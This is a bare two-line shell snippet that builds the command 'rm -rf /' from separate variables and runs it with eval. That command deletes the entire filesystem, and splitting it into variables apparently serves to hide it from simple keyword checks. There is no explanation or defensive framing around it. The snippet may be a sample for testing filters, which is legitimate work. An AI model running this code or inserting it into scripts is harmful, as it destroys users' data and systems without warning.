a="rm"; b="-rf"; c="/"
eval "$a $b $c"
